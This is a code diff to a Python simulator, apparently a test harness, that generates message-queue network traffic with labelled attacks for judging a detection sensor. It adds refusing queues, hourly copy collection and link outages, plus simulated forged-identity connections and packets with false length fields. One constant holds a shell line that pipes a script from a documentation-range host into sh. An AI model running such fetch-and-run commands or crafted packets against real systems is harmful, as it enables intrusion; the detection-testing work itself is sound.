@@ -18,6 +18,7 @@ from collections import Counter
 from functools import partial
 from ipaddress import IPv4Address
 from itertools import pairwise
+from math import inf
 from random import Random
 from typing import TYPE_CHECKING, Any, Final, NamedTuple
 
@@ -39,12 +40,12 @@ from .statements import final_hop, state, worst
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterable, Iterator
 
-    from .network import Seal
+    from .network import Seal, Seen
     from .statements import Evidence, Letter
     from .truth import Span
     from .wire import Frame
 
-__all__ = ["Attack", "Dependency", "Machine", "Outcome", "Rehearsal", "RemoteRead", "seconds_of"]
+__all__ = ["Attack", "Copy", "Dependency", "Machine", "Outcome", "Rehearsal", "RemoteRead", "seconds_of"]
 
 _CLASS: Final = mqmq.MESSAGE_CLASS_VALUES
 _START: Final = 1_699_833_600  # a Monday, 00:00 UTC
@@ -136,6 +137,10 @@ _OF_BRANCHES: Final = (
             {"recoverable": True, "dead_letter": True, "reach_queue": 600, **_ASKS},
         ),
     ),
+    ("billing", _Application("claim", 0x16, 2, 700, {"recoverable": True, **_ASKS}, seal=_encrypted)),
+    ("warehouse", _Application("complaint", 0x17, 2, 500, {"dead_letter": True, **_ASKS})),
+    ("erp", _Application("reminder", 0x18, 2, 300, {"be_received": 45, **_ASKS})),
+    ("erp", _Application("draft", 0x19, 2, 400, {"recoverable": True, **_ASKS})),
 )
 _OF_CENTER: Final = (
     ("erp", "billing", _Application("invoice", 0x21, 30, 4000,
@@ -149,15 +154,23 @@ _OF_CENTER: Final = (
                                     {"recoverable": True, "positive_receive": True}, seal=_encrypted)),
     ("erp", "billing", _Application("credit note", 0x25, 6, 900, {"recoverable": True}, direct=True)),
     ("warehouse", "erp", _Application("pick list", 0x26, 5, 300, {"be_received": 120, **_ASKS}, direct=True)),
+    ("warehouse", "erp", _Application("return", 0x28, 8, 600,
+                                      {"transactional": True, "dead_letter": True, "final_ack": True})),
 )  # fmt: skip
 _TRANSFER: Final = _Application("transfer", 0x14, 3, 400, {"recoverable": True}, direct=True)
 """The messages that branches send straight to the next branch."""
 _PRICES: Final = _Application("price list", 0x27, 6, 2500, {**_ASKS, "reach_queue": 60})
 _LISTED: Final = ("billing", "warehouse")
 """The hosts that get price lists, of which each has a queue."""
+_NOTICES: Final = _Application("notice", 0x29, 6, 500, {**_ASKS, "be_received": 300})
+_REFUSES: Final = "branch01"
+_NOTIFIED: Final = ("erp", "warehouse", _REFUSES)
+"""The hosts that get notices; the last one refuses some."""
 _GROUP: Final = GUID(b"price list queue")
 """The distribution list of these queues."""
 _TARIFF: Final = 0x15
+_WATCH: Final = 4 * _HOUR
+"""Seconds in which a link breaks once while messages are under way."""
 _SHORT: Final = 30
 """Seconds in which some messages have to reach their queue."""
 _ACKNOWLEDGED: Final = frozenset(
@@ -167,6 +180,21 @@ _ACKNOWLEDGED: Final = frozenset(
 _ADMINISTRATION, _ANSWERS = 0x31, 0x32
 _CLOSED: Final = frozenset({0x13, 0x22})
 """The numbers of the queues that are closed for a time."""
+_REFUSING: Final = {
+    0x17: (
+        _CLASS.MQMSG_CLASS_NACK_ACCESS_DENIED,
+        _CLASS.MQMSG_CLASS_NACK_Q_EXCEED_QUOTA,
+        _CLASS.MQMSG_CLASS_NACK_BAD_SIGNATURE,
+        None,
+    ),
+    0x28: (_CLASS.MQMSG_CLASS_NACK_BAD_DST_Q, _CLASS.MQMSG_CLASS_NACK_ACCESS_DENIED, None),
+    _NOTICES.queue: (_CLASS.MQMSG_CLASS_NACK_ACCESS_DENIED, None, None),
+}
+"""The classes with which queues refuse messages in turn, by the numbers of the queues; None accepts one."""
+_UNREAD, _PURGED = 0x18, 0x19
+"""The numbers of the queue that no program reads, and of the one that is purged."""
+_COLLECTED: Final = 6
+"""The most copies that a program moves at once from a host to the hub."""
 _FROM_AFAR: Final = frozenset({"stocktaking", "transfer"})
 """The applications whose queues a program on another host reads, once an hour."""
 
@@ -278,6 +306,24 @@ class RemoteRead(NamedTuple):
     captured: bool
 
 
+class Copy(NamedTuple):
+    """A copy of a message that a program moved to the hub.
+
+    Attributes:
+        time: Seconds since 1970.
+        message: The message.
+        source: Name of the host that had the copy.
+        to: ``dead-letter`` or ``journal``, as in `deliveries`.
+        captured: Whether all bytes of the packet were captured.
+    """
+
+    time: float
+    message: str
+    source: str
+    to: str
+    captured: bool
+
+
 class Attack(NamedTuple):
     """An attack.
 
@@ -367,11 +413,13 @@ class Rehearsal:
 
     def _judge(self, packet: mqmq.UserMessage) -> int | None:
         begin, end = self._closed
-        queue = packet.UserHeader.DestinationQueue
-        number = getattr(queue, "PrivateQueueIdentifier", None)
+        number = _queue_number(packet)
         if number in _CLOSED and begin <= self._net.now < end:
             return _CLASS.MQMSG_CLASS_NACK_BAD_DST_Q
-        return None
+        classes = _REFUSING.get(number, (None,))
+        if number == _NOTICES.queue and self._net.name_of(packet.UserHeader.QueueManagerAddress) != _REFUSES:
+            return None
+        return classes[packet.UserHeader.MessageID % len(classes)]
 
     def _moments(self, rate: float) -> Iterator[float]:
         """Yield times at which an application sends, by its rate in working hours."""
@@ -391,21 +439,41 @@ class Rehearsal:
         for source, to, application in (*plans, *_OF_CENTER, *pairs):
             for number, at in enumerate(self._moments(application.rate), 1):
                 self._plan_message(at, source, to, application, f"{application.name} {number}")
-        for number, at in enumerate(self._moments(_PRICES.rate), 1):
-            self._plan_price_list(at, f"{_PRICES.name} {number}", _GROUP if number % 2 else None)
+        for source, application, names in (("erp", _PRICES, _LISTED), ("billing", _NOTICES, _NOTIFIED)):
+            for number, at in enumerate(self._moments(application.rate), 1):
+                group = _GROUP if application is _PRICES and number % 2 else None
+                self._plan_for_several(at, source, application, names, f"{application.name} {number}", group)
         self._plan_reads(branches)
+        self._plan_copies()
 
-    def _plan_price_list(self, at: float, label: str, group: GUID | None) -> None:
-        """Plan a message to several queues, or to the distribution list of them."""
-        queues = [PrivateName(self._net.hosts[name].identifier, _PRICES.queue) for name in _LISTED]
+    def _plan_for_several(
+        self,
+        at: float,
+        source: str,
+        application: _Application,
+        names: tuple[str, ...],
+        label: str,
+        group: GUID | None,
+    ) -> None:
+        """Plan a message to queues of several hosts, or to the distribution list of them."""
+        queues = [PrivateName(self._net.hosts[name].identifier, application.queue) for name in names]
         message = Message(
             str(queues[0]),
-            bytes(self._random.choices(_LETTERS, k=_PRICES.size)),
+            bytes(self._random.choices(_LETTERS, k=application.size)),
             label=label,
-            admin_queue=_private(self._net.hosts["erp"], _ADMINISTRATION),
-            **_PRICES.options,
+            admin_queue=_private(self._net.hosts[source], _ADMINISTRATION),
+            **application.options,
         )
-        self._net.at(at, lambda: self._net.distribute("erp", message, queues, group))
+        self._net.at(at, lambda: self._net.distribute(source, message, queues, group))
+
+    def _plan_copies(self) -> None:
+        """Plan a program that moves copies from journals and dead-letter queues to the hub once an hour."""
+        own = Random(f"{self._more.random()} copies")  # noqa: S311  # repeatable on purpose
+        for hour in range(int((self._end - _START) // _HOUR) + 1):
+            for name in self._names[1:]:
+                at = _START + hour * _HOUR + own.uniform(0.1, 0.9) * _HOUR
+                sensor = self._sensors[0].name
+                self._net.at(at, partial(self._net.collect, name, "hub", sensor, own, most=_COLLECTED))
 
     def _plan_reads(self, branches: list[str]) -> None:
         """Plan a program that reads some queues once an hour from another host."""
@@ -463,7 +531,11 @@ class Rehearsal:
             self._net.at(working[3], partial(self._close, (working[3], working[3] + 2 * _HOUR)))
             self._plan_silence(working[0] - _HOUR / 2, 4 * _SHORT, reach_queue=_SHORT)
         span = self._end - _START
-        self._plan_silence(self._end - min(_MINUTE, span / 4), span)
+        for number in range(int(span // _WATCH)):
+            at = _START + (number + self._more.uniform(0.2, 0.8)) * _WATCH
+            self._plan_silence(at, 4 * _SHORT, reach_queue=_SHORT)
+        for share in (4, 6, 8):
+            self._plan_silence(self._end - min(_MINUTE, span) / share, span)
 
     def _plan_silence(self, at: float, outage: float, **options: Any) -> None:
         """Plan messages of the hub that are in transit when the link breaks, and are never answered."""
@@ -489,6 +561,13 @@ class Rehearsal:
         at = now + self._random.expovariate(1 / 3)
         if stopped[0] <= at < stopped[1]:
             at = stopped[1] + self._random.expovariate(1 / 60)
+        number = _queue_number(packet)
+        if number == _PURGED:
+            purged = _CLASS.MQMSG_CLASS_NACK_Q_PURGED
+            self._net.at(at + _MINUTE, lambda: self._net.read(host.name, purged, packet))
+            return
+        if number == _UNREAD:
+            at = inf
         lasts = packet.UserHeader.TimeToBeReceived
         due = packet.UserHeader.SentTime + lasts
         if lasts != FOREVER and due < at:
@@ -538,10 +617,30 @@ class Rehearsal:
             branch, label = random.choice(branches), f"attack {pattern}"
             self._plan_message(moment(), branch, "erp", _OF_BRANCHES[0][1], label, body)
             self._bodies[label] = (pattern,)
+        self._plan_wrong_sizes(erp)
         self._plan_repeated_attacks(erp)
 
+    def _plan_wrong_sizes(self, dst: str) -> None:
+        """Plan packets whose PacketSize no packet has, or hides a wrong length behind it."""
+        random = self._more
+        span = self._end - _START
+        fuzzer, hider = (f"203.0.113.{first + random.randrange(4)}" for first in (200, 204))
+        wrong = "length-beyond-packet"
+        size = random.choice((0, 15, 0x40_0001, 0xFFFF_FFFF))
+        overflow, probe = _over_http(length=0x7FFF_0000), _over_http()
+        for source, data, stated, patterns in (
+            (fuzzer, probe, size, ["srmp-probe"] if size > len(probe) else []),
+            (hider, overflow, len(overflow) + 8, ["srmp-overflow"]),
+        ):
+            at = _START + random.uniform(0.1, 0.9) * span
+            bent = data[:8] + struct.pack("<I", stated) + data[12:]
+            self._intrude((wrong, *patterns, "no-handshake"), at, source, dst, [(0, bent)])
+
     def _plan_repeated_attacks(self, dst: str) -> None:
-        """Plan attacks of several connections: two sources with one identity, and many at once."""
+        """Plan attacks of several connections: two sources with one identity, and many at once.
+
+        A host that moves to another address and back has one, too, but its connections do not overlap.
+        """
         random = self._more
         one, two, flooder = (f"203.0.113.{first + random.randrange(8)}" for first in (210, 220, 230))
         span = self._end - _START
@@ -549,10 +648,12 @@ class Rehearsal:
         def minute() -> float:
             return _START + random.uniform(0.1, 0.8) * span // _MINUTE * _MINUTE
 
-        speaker, begin = _establish(GUID(bytes(random.randrange(256) for _ in range(16)))), minute()
-        plan = [(begin, one, dst), (begin + 20, two, dst), (begin + 40, one, dst)]
-        forged = self._connect(plan, speaker, random)
-        self._attacks.append(("forged-identity", begin + 20, two, dst, forged))
+        self._plan_forged_identity(one, two, dst, minute())
+        moving, erp = GUID(random.randbytes(16)), self._net.hosts["erp"]
+        for quarter, source in enumerate(("10.4.0.7", "10.4.1.9", "10.4.0.7"), 1):
+            at = _START + quarter * span / 4
+            packets, sensor = handshake(moving, erp.identifier, at), self._sensors[0].name
+            self._net.at(at, partial(self._net.intrude, source, dst, packets, sensor, random))
         begin = minute()
         request = _establish(GUID(bytes(random.randrange(256) for _ in range(16))))
         plan = [(begin + 5 + at / 10, flooder, dst) for at in range(_FLOOD)]
@@ -560,6 +661,28 @@ class Rehearsal:
         self._attacks.append(("connection-flood", begin + 5, flooder, dst, flood))
         self._plan_directory(minute())
         self._plan_message_flood(minute() + 5)
+
+    def _plan_forged_identity(self, one: str, two: str, dst: str, begin: float) -> None:
+        """Plan two sources that speak for one queue manager; one connects while the other is connected."""
+        random, sensor = self._more, self._sensors[0].name
+        manager, erp = GUID(random.randbytes(16)), self._net.hosts["erp"].identifier
+        packets = handshake(manager, erp, begin)
+        captured: list[Callable[[], Seen]] = []
+
+        def connect() -> None:
+            visit = self._net.visit(one, dst, sensor, random)
+            captured.append(visit.close)
+            visit.send(packets[:2])
+            self._net.at(begin + 40, lambda: visit.send(packets[2:]))
+            self._net.at(begin + 40, visit.close)
+
+        self._net.at(begin, connect)
+        other = self._connect([(begin + 20, two, dst)], packets[0][1], random)
+
+        def is_known() -> bool:
+            return self._net.now > begin + 40 and other() and all(seen().whole for seen in captured)
+
+        self._attacks.append(("forged-identity", begin + 20, two, dst, is_known))
 
     def _plan_message_flood(self, at: float) -> None:
         """Plan a source that sends as many messages to a host at once as it gets in days."""
@@ -640,7 +763,7 @@ class Rehearsal:
         def intrude() -> None:
             seen = self._net.intrude(src, dst, packets, self._sensors[0].name, self._random)
             for pattern in patterns:
-                is_shown = seen.whole and (seen.opened or pattern != "no-handshake")
+                is_shown = seen.whole and (seen.opened or pattern not in _OPENED)
                 self._attacks.append((pattern, at, src, dst, partial(bool, is_shown)))
 
         self._net.at(at, intrude)
@@ -747,6 +870,11 @@ class Rehearsal:
                 read.captured,
             )
 
+    def copies(self) -> Iterator[Copy]:
+        """Yield the copies that were moved, after `run`."""
+        for time, letter, host, queue, captured in self._net.collected:
+            yield Copy(time, letter.message, host, queue.removeprefix("transactional "), captured)
+
     def attacks(self) -> Iterator[Attack]:
         """Yield the attacks, after `run`; a message with a bad body for each hop that was captured."""
         for pattern, at, src, dst, captured in self._attacks:
@@ -761,6 +889,8 @@ class Rehearsal:
 
 
 _ANSWERED: Final = frozenset({"refused", "received", "reached", "accepted"})
+_OPENED: Final = frozenset({"no-handshake", "length-beyond-packet"})
+"""The patterns that need the beginning of the connection."""
 _LETTERS: Final = b"abcdefghijklmnopqrstuvwxyz 0123456789"
 _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 
@@ -768,6 +898,11 @@ _SCRIPT: Final = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
 def _is_seen(letter: Letter) -> bool:
     """Return whether a packet of a message was captured completely."""
     return any(row.what in {"carried", "read"} for row in letter.captured.values())
+
+
+def _queue_number(packet: mqmq.UserMessage) -> int:
+    """Return the number of the queue of a message; 0 for a direct name."""
+    return getattr(packet.UserHeader.DestinationQueue, "PrivateQueueIdentifier", 0)
 
 
 def _direct(host: str, application: _Application) -> str:
